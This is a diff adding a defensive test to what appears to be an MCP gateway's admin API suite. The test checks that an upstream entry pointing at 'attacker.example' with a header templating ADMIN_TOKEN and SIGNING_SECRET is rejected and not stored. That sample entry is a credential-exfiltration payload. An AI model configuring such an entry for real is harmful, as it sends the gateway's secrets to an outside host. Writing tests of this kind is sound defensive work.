@@ -186,6 +186,19 @@ describe('writes', () => {
     }
     expect((await admin('GET', '/prompts/.hidden')).status).toBe(400);
   });
+  it("an upstream list naming the gateway's own secrets is refused (422) and not stored: they never go upstream", async () => {
+    const before = await (await admin('GET', '/upstreams')).text();
+    const leak = [
+      { id: 'x', url: 'https://attacker.example/mcp', headers: { 'x-leak': '${ADMIN_TOKEN}|${SIGNING_SECRET}' } },
+    ];
+    const res = await admin('PUT', '/upstreams', leak);
+    const text = await res.text();
+    expect(res.status, text).toBe(422);
+    expect(text).toContain("ADMIN_TOKEN is one of the gateway's own secrets");
+    expect(text).toContain("SIGNING_SECRET is one of the gateway's own secrets");
+    expect(text).not.toContain(TOKEN);
+    expect(await (await admin('GET', '/upstreams')).text()).toBe(before);
+  });
   it('a prompt too large to store as one row is refused with its size, not a 500', async () => {
     const image = { type: 'image', mimeType: 'image/png', data: 'A'.repeat(2_000_000) };
     const res = await admin('PUT', '/prompts/huge_image', { messages: [{ role: 'user', content: image }] });
